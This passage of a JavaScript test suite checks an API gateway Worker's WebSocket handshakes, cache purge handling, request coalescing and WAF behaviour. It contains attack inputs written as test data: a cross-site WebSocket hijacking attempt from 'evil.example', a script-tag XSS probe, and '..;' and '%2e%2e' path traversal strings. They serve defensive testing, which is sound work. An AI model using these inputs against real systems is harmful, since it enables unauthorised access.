    assert.equal(attack.headers["x-waf-rule"], "sqli-union");
    const user3 = bearer(token(keys, "ed1", { sub: "ws-user-3" }));
    for (let i = 0; i < 3; i += 1) {
      const { ws, status } = await openSocket("/gw/ws/chat", { headers: user3 });
      assert.equal(status, 101, `handshake ${i}`);
      const ended = closed(ws);
      ws.close(1000);
      await ended;
    }
    const over = await openSocket("/gw/ws/chat", { headers: user3 });
    assert.equal(over.status, 429);
    assert.equal(wsOrigin.handshakes.length, asked + 3, "only the admitted handshakes reached the origin");
  });

  test("a handshake the runtime could not answer with a socket is refused before the origin: Upgrade in a list, another version, no key", async () => {
    const asked = wsOrigin.handshakes.length;
    const user = bearer(token(keys, "ed1", { sub: "ws-user-6" }));
    const handshake = { connection: "Upgrade", upgrade: "websocket", "sec-websocket-version": "13", "sec-websocket-key": "dGhlIHNhbXBsZSBub25jZQ==", ...user };
    // The runtime takes only `Upgrade: websocket` alone for a handshake: a 101 with a socket for this one was its 500.
    const listed = await rawRequest("/gw/ws/chat", { headers: { ...handshake, upgrade: "websocket, h2c" } });
    assert.equal(listed.status, 501, listed.body);
    assert.equal(JSON.parse(listed.body).error.code, "upgrade_unsupported");
    const version = await rawRequest("/gw/ws/chat", { headers: { ...handshake, "sec-websocket-version": "8" } });
    assert.equal(version.status, 426, version.body);
    assert.equal(JSON.parse(version.body).error.code, "websocket_version");
    assert.equal(version.headers.get("sec-websocket-version"), "13");
    const { "sec-websocket-key": _, ...keyless } = handshake;
    const noKey = await rawRequest("/gw/ws/chat", { headers: keyless });
    assert.equal(noKey.status, 400, noKey.body);
    assert.equal(JSON.parse(noKey.body).error.code, "bad_handshake");
    assert.equal(wsOrigin.handshakes.length, asked, "none reached the origin");
    // Refused uncounted: the user's three handshakes are all still there.
    const open = await openSocket("/gw/ws/chat", { headers: user });
    assert.equal(open.status, 101, open.body);
    assert.match(open.headers.ratelimit, /^"gw-ws";r=2;t=\d+$/);
    const ended = closed(open.ws);
    open.ws.close(1000);
    await ended;
  });

  test("an origin that picks a subprotocol the client did not offer, or none of those offered, is a 502, its socket closed, not a 101 the client must fail", async () => {
    const user = bearer(token(keys, "ed1", { sub: "ws-user-7" }));
    // A browser (WHATWG WebSockets) and `ws` fail a connection whose server chose none of the protocols offered
    // ("Server sent no subprotocol"), as one whose server chose another.
    for (const [path, protocols] of [["/unoffered", ["chat.v1"]], ["/unoffered", []], ["/unchosen", ["chat.v1", "chat.v0"]]]) {
      // Only this path's closes: an earlier test's socket may report its own close meanwhile.
      const rogueCloses = () => wsOrigin.closes.filter((c) => c.path.startsWith(path));
      const closes = rogueCloses().length;
      const rogue = await openSocket(`/gw/ws${path}`, { headers: user, protocols });
      assert.equal(rogue.status, 502, `offered ${JSON.stringify(protocols)}: ${rogue.status ?? rogue.body}`);
      assert.equal(JSON.parse(rogue.body).error.code, "bad_gateway");
      await until(() => rogueCloses().length > closes, { what: "the origin's socket to be closed" });
      assert.equal(rogueCloses().at(-1).code, 1002);
    }
  });

  test("a handshake signed in by the session cookie is refused from another origin's page (cross-site WebSocket hijacking), passed from its own", async () => {
    const { cookie } = await login();
    const asked = wsOrigin.handshakes.length;
    for (const from of [{ origin: "https://evil.example" }, { origin: "https://evil.example", "sec-fetch-site": "same-site" }]) {
      const hijack = await openSocket("/gw/ws-session/chat", { headers: { cookie, ...from } });
      assert.equal(hijack.status, 403, `${JSON.stringify(from)}: ${hijack.body}`);
      assert.equal(JSON.parse(hijack.body).error.code, "cross_origin_refused");
    }
    assert.equal(wsOrigin.handshakes.length, asked, "no hijacked handshake reached the origin");
    const own = await openSocket("/gw/ws-session/chat", { headers: { cookie, origin: new URL(worker.url).origin } });
    assert.equal(own.status, 101, own.body);
    assert.equal(wsOrigin.handshakes.at(-1).headers["x-user-email"], ALICE.email);
    const ended = closed(own.ws);
    own.ws.close(1000);
    await ended;
  });

  test("an origin that does not upgrade has its answer passed back; an unreachable one is 502, a silent one 504, and the timeout never cuts an open socket", async () => {
    const user = bearer(token(keys, "ed1", { sub: "ws-user-4" }));
    // Open through the timeout of the silent handshake below: the route's timeout covers a handshake, not a socket.
    const open = await openSocket("/gw/ws/chat", { headers: bearer(token(keys, "ed1", { sub: "ws-user-5" })) });
    assert.equal(open.status, 101, open.body);
    const refused = await openSocket("/gw/ws/refuse", { headers: user });
    assert.equal(refused.status, 403);
    assert.deepEqual(JSON.parse(refused.body), { refused: true }, "the origin's own answer");
    const down = await openSocket("/gw/ws-down/chat");
    assert.equal(down.status, 502);
    assert.equal(JSON.parse(down.body).error.code, "bad_gateway");
    const silent = await openSocket("/gw/ws/hang", { headers: user });
    assert.equal(silent.status, 504);
    assert.equal(JSON.parse(silent.body).error.code, "gateway_timeout");
    open.ws.send("still there");
    assert.deepEqual(await nextMessage(open.ws), { text: "echo:still there", binary: false }, "the socket outlived the route's timeout");
    const ended = closed(open.ws);
    open.ws.close(1000);
    await ended;
  });
});

describe("configuration", () => {
  test("a bad route table is refused at isolate start with an error naming the entry", async () => {
    const bad = await startWorker({ vars: { GATEWAY_ROUTES: [{ name: "ok", path: "/a", upstream: "http://x" }, { name: "broken", path: "/b", upstream: "ftp://x" }] } });
    try {
      const r = await bad.fetch("/health");
      assert.equal(r.status, 500);
      const body = await r.json();
      assert.equal(body.error.code, "config_invalid");
      assert.match(body.error.message, /GATEWAY_ROUTES.*route 1 \("broken"\).*upstream/);
    } finally {
      await bad.stop();
    }
  });

  test("a cached entry whose purge time cannot be read is a miss, never served on", async (t) => {
    // Without the CONFIG_KV binding every purge-time read fails: as a KV outage would.
    const own = await startOrigin();
    t.after(() => own.stop());
    const { kvNamespaces } = unstable_getMiniflareWorkerOptions(join(ROOT, "wrangler.toml")).workerOptions;
    const w = await startWorker({
      vars: { GATEWAY_ROUTES: [{ name: "c", path: "/c", upstream: own.url, cache: "api-public" }] },
      workerOptions: { kvNamespaces: Object.fromEntries(Object.entries(kvNamespaces).filter(([name]) => name !== "CONFIG_KV")) },
    });
    try {
      for (const round of [1, 2]) {
        const r = await w.fetch("/c/page");
        assert.equal(r.status, 200, `round ${round}`);
        assert.equal(r.headers.get("x-cache"), "MISS", `round ${round}`);
        await r.arrayBuffer();
      }
      assert.equal(own.requests.length, 2, "both went to the origin");
      assert.ok(w.jsonLogs().some((l) => l.msg === "purge time unreadable; serving from the origin"), "logged");
    } finally {
      await w.stop();
    }
  });

  // A Worker with one cached route `/c` (api-public, timeout_ms 300) to `upstream`, over a stand-in CONFIG_KV
  // (`overStandInKv`): a KV that is slow, or stuck, for the purge marks.
  const cachedRouteOverKv = (upstream, get, { timeout_ms = 300, vars = {} } = {}) =>
    overStandInKv({ GATEWAY_ROUTES: [{ name: "c", path: "/c", upstream, cache: "api-public", timeout_ms }], ...vars }, get);

  /**
   * A CONFIG_KV `get` (for `cachedRouteOverKv`) that asks `origin` for each purge mark (`GET /kv/{key}`, its body the
   * mark; empty: none) and holds no other key.
   */
  const marksFrom = (origin) => `async (key) => {
    if (!key.startsWith("gateway:purge:")) return null;
    const text = await (await fetch(${JSON.stringify(origin)} + "/kv/" + encodeURIComponent(key))).text();
    return text === "" ? null : text;
  }`;

  /**
   * An origin for `cachedRouteOverKv` whose page answers ("page 1", "page 2", … in the order given, tagged `tag` if
   * set) are held while `holding` and given by `release()`; `kv(key, res)` answers the `marksFrom` reads (`GET
   * /kv/{key}`). `pages()` counts the page requests it was asked.
   */
  const heldPages = async (t, { tag, kv } = {}) => {
    const own = await startOrigin();
    t.after(() => own.stop());
    let copies = 0;
    const origin = {
      own,
      holding: true,
      held: [],
      pages: () => own.requests.filter((r) => r.path === "/c/page").length,
      release() {
        origin.holding = false;
        origin.held.splice(0).forEach((answer) => answer());
      },
    };
    own.handle((req, body, res) => {
      if (kv && req.url.startsWith("/kv/")) return kv(decodeURIComponent(req.url.slice(4)), res);
      const headers = { "content-type": "text/plain", ...(tag ? { "cache-tag": tag } : {}) };
      const answer = () => res.writeHead(200, headers).end(`page ${++copies}`);
      if (origin.holding) return origin.held.push(answer);
      answer();
    });
    return origin;
  };

  test("a cached entry whose purge time KV is slow to give is a miss after the route's timeout, and a hit once the read answers", async (t) => {
    // CONFIG_KV stands in for a slow KV: each purge-time read answers "never purged" only once the test lets it (the
    // origin holds its /kv/ requests), well past the route's timeout_ms. That is 2 s, not 300 ms: the origin's own
    // answer must come within it, and on a loaded machine 300 ms was a window the page could miss (a 504).
    const own = await startOrigin();
    t.after(() => own.stop());
    const held = [];
    let holding = true;
    own.handle((req, body, res) => {
      if (!req.url.startsWith("/kv/")) return res.writeHead(200, { "content-type": "text/plain" }).end("page");
      if (holding) return held.push(res);
      res.end("");
    });
    const w = await cachedRouteOverKv(
      own.url,
      `async (key) => {
        if (key.startsWith("gateway:purge:")) await (await fetch(${JSON.stringify(own.url)} + "/kv/" + encodeURIComponent(key))).text();
        return null;
      }`,
      { timeout_ms: 2_000 },
    );
    const pages = () => own.requests.filter((r) => r.path === "/c/page").length;
    try {
      const first = await w.fetch("/c/page");
      assert.equal(first.headers.get("x-cache"), "MISS");
      await first.arrayBuffer();
      // Stored; its purge time is not known to the isolate yet, and KV takes longer than the route allows.
      const miss = await w.fetch("/c/page");
      assert.equal(miss.status, 200);
      assert.equal(miss.headers.get("x-cache"), "MISS", "not held for as long as KV takes");
      await miss.arrayBuffer();
      assert.equal(pages(), 2, "asked of the origin");
      assert.ok(
        w.jsonLogs().some((l) => l.msg === "purge time unreadable; serving from the origin" && /did not answer in 2000 ms/.test(l.detail)),
        "logged",
      );
      // The read went on in the background: once it answers, the time it brought serves the stored copy.
      holding = false;
      for (const res of held.splice(0)) res.end("");
      await until(async () => {
        const r = await w.fetch("/c/page");
        await r.arrayBuffer();
        return r.headers.get("x-cache") === "HIT";
      }, { ms: 15_000, what: "a HIT once the purge time is read" });
    } finally {
      holding = false;
      for (const res of held.splice(0)) res.end("");
      await w.stop();
    }
  });

  test("concurrent hits share one purge-mark read per tag: the others poll its outcome on their own timers", async (t) => {
    // CONFIG_KV stands in for a KV whose purge-mark reads the test holds: each asks the origin's `/kv/<key>`, which
    // answers at once, or, while `holding`, when the test lets them go.
    const own = await startOrigin();
    t.after(() => own.stop());
    let holding = false;
    const held = [];
    let heldOne;
    const firstHeld = new Promise((resolve) => (heldOne = resolve));
    own.handle((req, body, res) => {
      if (!req.url.startsWith("/kv/")) return res.writeHead(200, { "content-type": "text/plain" }).end("page");
      if (holding) {
        held.push(res);
        return heldOne();
      }
      res.end("");
    });
    const w = await cachedRouteOverKv(
      own.url,
      `async (key) => {
        if (key.startsWith("gateway:purge:")) await (await fetch(${JSON.stringify(own.url)} + "/kv/" + encodeURIComponent(key))).text();
        return null;
      }`,
      // A read's time is kept for a minute: only the stored copy's first hits read the mark, and they may wait for
      // it as long as the test takes.
      { timeout_ms: 20_000, vars: { GATEWAY_PURGE_SYNC_MS: 60_000 } },
    );
    const kvReads = () => own.requests.filter((r) => r.path.startsWith("/kv/")).length;
    try {
      const first = await w.fetch("/c/page");
      assert.equal(first.headers.get("x-cache"), "MISS");
      await first.arrayBuffer();
      // The stored copy's first hit reads the mark, which the test holds: asked until one does (answers before
      // that were served by the fill).
      holding = true;
      const hits = [];
      await until(async () => {
        const r = w.fetch("/c/page");
        const outcome = await Promise.race([r, firstHeld.then(() => "held")]);
        if (outcome !== "held") {
          await outcome.arrayBuffer();
          return false;
        }
        hits.push(r);
        return true;
      }, { what: "a hit reading the purge mark" });
      const before = kvReads() - 1;
      hits.push(...Array.from({ length: 4 }, () => w.fetch("/c/page")));
      // The four others wait on the read under way.
      await until(async () => (await (await w.fetch("/__debug/coalesce")).json()).purge_reads_waiting >= 4, {
        what: "four hits waiting on the purge-mark read",
      });
      holding = false;
      for (const res of held.splice(0)) res.end("");
      for (const r of await Promise.all(hits)) {
        assert.equal(r.headers.get("x-cache"), "HIT");
        assert.equal(await r.text(), "page");
      }
      assert.equal(kvReads() - before, 1, "one KV read for the tag, shared by the five hits");
      assert.equal(own.requests.filter((r) => r.path === "/c/page").length, 1, "one fill");
    } finally {
      holding = false;
      for (const res of held.splice(0)) res.end("");
      await w.stop();
    }
  });

  test("a hit that comes after a purge takes no purge-mark read begun before it (GATEWAY_PURGE_SYNC_MS 0: none is old enough)", async (t) => {
    // CONFIG_KV stands in for a KV whose purge-mark reads ask the origin's `/kv/<key>`: the reads the test holds
    // answer as KV stood before the purge (never purged); those made after it, with the purge's time.
    const own = await startOrigin();
    t.after(() => own.stop());
    let holding = false;
    let mark = "";
    let copies = 0;
    const held = [];
    own.handle((req, body, res) => {
      if (!req.url.startsWith("/kv/")) return res.writeHead(200, { "content-type": "text/plain" }).end(`page ${++copies}`);
      if (holding) return held.push(res);
      res.end(mark);
    });
    const w = await cachedRouteOverKv(
      own.url,
      marksFrom(own.url),
      // Every hit reads the marks it needs: a purge anywhere holds for the next request (as KV shows it).
      { timeout_ms: 20_000, vars: { GATEWAY_PURGE_SYNC_MS: 0 } },
    );
    const kvReads = () => own.requests.filter((r) => r.path.startsWith("/kv/")).length;
    const waiting = async () => (await (await w.fetch("/__debug/coalesce")).json()).purge_reads_waiting;
    try {
      const first = await w.fetch("/c/page");
      assert.equal(first.headers.get("x-cache"), "MISS");
      await first.arrayBuffer();
      await until(async () => {
        const r = await w.fetch("/c/page");
        await r.arrayBuffer();
        return r.headers.get("x-cache") === "HIT";
      }, { what: "the stored copy served" });
      // How many marks a hit reads (one per tag of the entry).
      const before = kvReads();
      const counted = await w.fetch("/c/page");
      assert.equal(counted.headers.get("x-cache"), "HIT");
      const stored = await counted.text();
      const marks = kvReads() - before;
      assert.ok(marks >= 1);
      // A hit whose mark reads KV holds (begun before the purge).
      holding = true;
      const early = w.fetch("/c/page");
      await until(() => held.length >= marks, { what: "the early hit's mark reads under way" });
      // The purge lands (elsewhere: KV shows it to every read from now on), then another hit comes.
      holding = false;
      mark = String(Date.now());
      let lateDone = false;
      const late = w.fetch("/c/page").then((r) => {
        lateDone = true;
        return r;
      });
      // Either it waits on the early hit's reads, or it read the marks itself and is answered.
      await until(async () => lateDone || (await waiting()) >= 1, { what: "the late hit reading or waiting" });
      for (const res of held.splice(0)) res.end("");
      const lateAnswer = await late;
      assert.equal(lateAnswer.headers.get("x-cache"), "MISS", "the purged copy is not served to a request after the purge");
      assert.notEqual(await lateAnswer.text(), stored, "asked of the origin");
      const earlyAnswer = await early;
      await earlyAnswer.arrayBuffer();
    } finally {
      holding = false;
      for (const res of held.splice(0)) res.end("");
      await w.stop();
    }
  });

  test("a request that comes after a purge takes no fill asked of the origin before it (its tags' marks read as a hit's are)", async (t) => {
    // CONFIG_KV stands in for a KV whose purge marks the test sets (a purge made elsewhere: KV shows it to every read
    // from then on). With no copy stored, a request joins the fill under way; one asked of the origin before a purge
    // this isolate made or read is superseded, and must be as well when the purge was made in another isolate.
    let mark = "";
    const origin = await heldPages(t, { kv: (key, res) => res.end(mark) });
    const w = await cachedRouteOverKv(
      origin.own.url,
      marksFrom(origin.own.url),
      // Every hit reads the marks it needs: a purge anywhere holds for the next request (as KV shows it).
      { timeout_ms: 20_000, vars: { GATEWAY_PURGE_SYNC_MS: 0 } },
    );
    try {
      // The first request's fill: its origin request is under way (the test holds the answer).
      const first = w.fetch("/c/page");
      await until(() => origin.held.length === 1, { what: "the fill's origin request" });
      // The purge lands, then a second request comes and waits on the fill.
      mark = String(Date.now() + 1);
      const second = w.fetch("/c/page");
      await untilWaiting(w, 1);
      origin.release();
      const led = await first;
      assert.equal(await led.text(), "page 1", "the fill's own request takes its answer");
      const late = await second;
      assert.equal(await late.text(), "page 2", "the request after the purge is not served the answer asked before it");
      assert.equal(late.headers.get("x-cache"), "MISS");
      assert.equal(origin.pages(), 2, "asked of the origin again");
    } finally {
      origin.release();
      await w.stop();
    }
  });

  test("a request that joined a fill asked before it came, whose purge mark cannot be read, asks again and is not served that fill", async (t) => {
    // CONFIG_KV stands in for a KV that fails every purge-mark read: an unreadable mark counts as a purge, so the
    // joined answer is superseded as a stored copy would be; the request asks the origin again (once).
    const origin = await heldPages(t);
    const w = await cachedRouteOverKv(
      origin.own.url,
      `async (key) => {
        if (key.startsWith("gateway:purge:")) throw new Error("KV is down");
        return null;
      }`,
      { timeout_ms: 20_000 },
    );
    try {
      const first = w.fetch("/c/page");
      await until(() => origin.held.length === 1, { what: "the fill's origin request" });
      const joined = Array.from({ length: 3 }, () => w.fetch("/c/page"));
      await untilWaiting(w, 3);
      origin.release();
      assert.equal(await (await first).text(), "page 1", "the fill's own request takes its answer");
      const late = await Promise.all(joined.map(async (r) => `${(await r).headers.get("x-cache")} ${await (await r).text()}`));
      assert.deepEqual(late, ["MISS page 2", "MISS page 2", "MISS page 2"], "counted purged, so not served");
      assert.equal(origin.pages(), 2, "asked of the origin again, once for all three");
    } finally {
      origin.release();
      await w.stop();
    }
  });

  for (const [kind, sent] of [["", {}], [" (requests saying no-store, whose fills are claimed apart)", { "cache-control": "no-store" }]]) {
    test(`requests leaving one superseded fill share the fill asked again, even those that learn it only once that fill is done${kind}`, async (t) => {
      // CONFIG_KV stands in for a KV whose purge-mark reads the test answers one by one (GATEWAY_PURGE_SYNC_MS 0: each
      // request reads its own). Three requests join a fill asked before a purge of its tag; one learns of the purge at
      // once, leaves the fill and asks again; the others learn of it only once that second fill is answered (and stored)
      // and released — as a waiter whose timer fires late on a loaded machine does. They take the second fill's answer.
      let mark = "";
      const reads = [];
      const origin = await heldPages(t, {
        tag: "t",
        kv: (key, res) => (key === "gateway:purge:t" ? reads.push(() => res.end(mark)) : res.end("")),
      });
      const w = await cachedRouteOverKv(
        origin.own.url,
        marksFrom(origin.own.url),
        { timeout_ms: 20_000, vars: { GATEWAY_PURGE_SYNC_MS: 0 } },
      );
      const fills = async () => (await (await w.fetch("/__debug/coalesce")).json()).fills;
      try {
        const first = w.fetch("/c/page", { headers: sent });
        await until(() => origin.held.length === 1, { what: "the fill's origin request" });
        const joined = Array.from({ length: 3 }, () => w.fetch("/c/page", { headers: sent }));
        await untilWaiting(w, 3);
        // The tag is purged after the fill asked the origin, before its answer.
        mark = String(Date.now() + 1);
        origin.release();
        assert.equal(await (await first).text(), "page 1", "the fill's own request takes its answer");
        await until(() => reads.length === 3, { what: "each joined request reading the tag's purge mark" });
        const answers = joined.map(async (r) => `${(await r).headers.get("x-cache")} ${await (await r).text()}`);
        reads.shift()();
        assert.equal(await Promise.race(answers), "MISS page 2", "the first to learn of the purge asks again");
        await until(async () => (await fills()) === 0, { what: "the fill asked again done and released" });
        reads.splice(0).forEach((answer) => answer());
        assert.deepEqual(await Promise.all(answers), ["MISS page 2", "MISS page 2", "MISS page 2"], "all three share the fill asked again");
        assert.equal(origin.pages(), 2, "asked of the origin again, once for all three");
      } finally {
        origin.release();
        reads.splice(0).forEach((answer) => answer());
        await w.stop();
      }
    });
  }

  for (const [copy, sie] of [["an expired copy", 0], ["a copy in its stale-if-error window", 3600]]) {
    test(`a request with ${copy} that joined a fill asked before a purge of the fill's own tags is not served that fill`, async (t) => {
      // CONFIG_KV stands in for a KV whose purge marks the test sets (a purge made in another isolate). The stored
      // copy is tagged "a"; the origin's next answer, "b". A request finding the copy past its TTL joins the fill under
      // way; "b" is purged after that fill asked the origin and before the request came. The copy's marks say
      // nothing of "b": the joined answer's own must be read, as for a request with no copy.
      const own = await startOrigin();
      t.after(() => own.stop());
      let mark = "";
      let copies = 0;
      let holding = false;
      let onHeld;
      const heldAtOrigin = new Promise((r) => (onHeld = r));
      const held = [];
      own.handle((req, body, res) => {
        if (req.url.startsWith("/kv/")) {
          return res.end(decodeURIComponent(req.url.slice(4)) === "gateway:purge:b" ? mark : "");
        }
        const answer = () => {
          const n = ++copies;
          res.writeHead(200, { "content-type": "text/plain", "cache-tag": n === 1 ? "a" : "b" }).end(`page ${n}`);
        };
        if (holding) {
          held.push(answer);
          return onHeld();
        }
        answer();
      });
      const policy = { ttl: 1, stale_while_revalidate: 0, stale_if_error: sie, shared: true, cache_control: "public, max-age=1", surrogate_control: "max-age=1" };
      const w = await cachedRouteOverKv(
        own.url,
        marksFrom(own.url),
        {
          timeout_ms: 20_000,
          vars: {
            GATEWAY_PURGE_SYNC_MS: 0,
            GATEWAY_CACHE_POLICIES: { brief: policy },
            GATEWAY_ROUTES: [{ name: "c", path: "/c", upstream: own.url, cache: "brief", timeout_ms: 20_000 }],
          },
        },
      );
      const pages = () => own.requests.filter((r) => r.path === "/c/page").length;
      try {
        assert.equal(await (await w.fetch("/c/page")).text(), "page 1");
        await until(async () => {
          const r = await w.fetch("/c/page");
          await r.arrayBuffer();
          return r.headers.get("x-cache") === "HIT";
        }, { what: "the copy tagged a stored" });
        // Past the copy's TTL, a request leads a fill (the test holds its origin request).
        holding = true;
        let lead;
        await until(async () => {
          const r = w.fetch("/c/page");
          const state = await Promise.race([r.then(() => "answered"), heldAtOrigin.then(() => "held")]);
          if (state === "held") lead = r;
          else await (await r).arrayBuffer();
          return state === "held";
        }, { ms: 15_000, what: "a fill for the copy past its TTL" });
        mark = String(Date.now() + 1);
        const joiner = w.fetch("/c/page");
        await untilWaiting(w, 1);
        holding = false;
        held.splice(0).forEach((answer) => answer());
        assert.equal(await (await lead).text(), "page 2", "the fill's own request takes its answer");
        const late = await joiner;
        assert.equal(await late.text(), "page 3", "the request after the purge of b is not served the answer asked before it");
        assert.equal(pages(), 3, "asked of the origin again");
      } finally {
        holding = false;
        held.splice(0).forEach((answer) => answer());
        await w.stop();
      }
    });
  }

  test("in log mode the WAF lets an attack through and logs the rule", async (t) => {
    const logOrigin = await startOrigin();
    t.after(() => logOrigin.stop());
    const w = await startWorker({
      vars: {
        GATEWAY_ROUTES: [{ name: "o", path: "/o", methods: ["GET", "POST"], upstream: logOrigin.url }],
        GATEWAY_WAF: { mode: "log", max_body_bytes: 1024 * 1024 },
      },
    });
    try {
      const r = await w.fetch("/o?q=%3Cscript%3E");
      assert.equal(r.status, 200);
      await r.arrayBuffer();
      const line = await until(() => w.jsonLogs().find((l) => l.msg === "waf"), { what: "the WAF log line" });
      assert.equal(line.rule, "xss-script");
      assert.equal(line.mode, "log");
      logOrigin.handle((req, body, res) => res.end(String(body.length)));
      const big = await chunkedUpload("/o/upload", 3 * 1024 * 1024, { base: w.url });
      assert.equal(big.status, 200, "a chunked body past max_body_bytes goes through in log mode");
      assert.equal(big.body, String(3 * 1024 * 1024), "whole");
      const size = await until(() => w.jsonLogs().find((l) => l.msg === "waf" && l.rule === "size-body"), { what: "the size-body log line" });
      assert.equal(size.mode, "log");
    } finally {
      await w.stop();
    }
  });

  test("where the WAF only logs, a path climbing above its upstream base is refused, and an admin area's POST never falls to an open route", async (t) => {
    // With the traversal rules blocking, `..` never gets this far; in log mode the route table is the only guard.
    const own = await startOrigin();
    t.after(() => own.stop());
    const w = await startWorker({
      vars: {
        GATEWAY_ROUTES: [
          { name: "api", path: "/api", methods: ["GET", "POST"], upstream: `${own.url}/v2`, strip_prefix: "/api" },
          { name: "admin", path: "/api/admin", methods: ["POST"], upstream: `${own.url}/v2`, strip_prefix: "/api", auth: "jwt", permissions: ["admin"] },
          { name: "status", path: "/api/admin/status", methods: ["GET"], upstream: `${own.url}/v2`, strip_prefix: "/api" },
        ],
        GATEWAY_WAF: { mode: "log" },
      },
    });
    // The request target as written: node's URL would resolve `%2e%2e` before sending.
    const { port } = new URL(w.url);
    const raw = (path, method = "GET") =>
      new Promise((done, reject) => {
        const req = httpRequest({ host: "127.0.0.1", port, path, method, agent: false }, (res) => {
          const chunks = [];
          res.on("data", (c) => chunks.push(c));
          res.on("end", () => done({ status: res.statusCode, body: Buffer.concat(chunks).toString() }));
        });
        req.on("error", reject);
        req.end();
      });
    try {
      // `..;` is a dot segment to Tomcat, Spring and Jetty, not to a URL parser: it reaches the Worker as sent.
      for (const path of ["/api/..;/api/x", "/api/x/..;/..;/api/y", "/api/..;x=1/api/x"]) {
        const r = await raw(path);
        assert.equal(r.status, 400, path);
        assert.equal(JSON.parse(r.body).error.code, "ambiguous_path", path);
      }
      assert.deepEqual(own.requests.map((r) => r.url), [], "nothing reached the origin outside /v2");
      // Inside the part appended to the base, dot segments are the origin's to resolve; `%2e%2e` the runtime
      // resolves against the client's path before the Worker sees it.
      for (const [path, forwarded] of [["/api/x/..;/y", "/v2/x/..;/y"], ["/api/%2e%2e/api/x", "/v2/x"]]) {
        const r = await raw(path);
        assert.equal(r.status, 200, path);
        assert.equal(own.requests.at(-1).url, forwarded, path);
      }
      // The open status page serves GET only; its POST meets the admin area's checks, not the open /api's.
      const post = await raw("/api/admin/status", "POST");
      assert.equal(post.status, 405);
      assert.equal(own.requests.length, 2, "the POST never reached the origin");
    } finally {
      await w.stop();
    }
  });

  test("a route's waf_body block refuses its over-size bodies where the WAF only logs, declared or counted", async (t) => {
    const own = await startOrigin();
    t.after(() => own.stop());
    const max = 64 * 1024;
    const w = await startWorker({
      vars: {
        GATEWAY_ROUTES: [
          { name: "o", path: "/o", methods: ["POST"], upstream: own.url },
          { name: "b", path: "/b", methods: ["POST"], upstream: own.url, waf_body: "block" },
        ],
        GATEWAY_WAF: { mode: "log", max_body_bytes: max },
      },
    });
    try {
      own.handle((req, body, res) => res.end(String(body.length)));
      const big = Buffer.alloc(max + 1, "u");
      const declared = await w.fetch("/b", { method: "POST", body: big });
      assert.equal(declared.status, 403, "declared in Content-Length");
      assert.equal(declared.headers.get("x-waf-rule"), "size-body");
      await declared.arrayBuffer();
      assert.equal(own.requests.length, 0, "refused before the origin");
      const counted = await chunkedUpload("/b", max + 1, { base: w.url });
      assert.equal(counted.status, 403, "counted on the way");
      assert.equal(counted.headers["x-waf-rule"], "size-body");
      // The route without a mode of its own: the global one (logged, passed).
      const logged = await w.fetch("/o", { method: "POST", body: big });
      assert.equal(logged.status, 200);
      assert.equal(await logged.text(), String(max + 1));
    } finally {
      await w.stop();
    }
  });
});
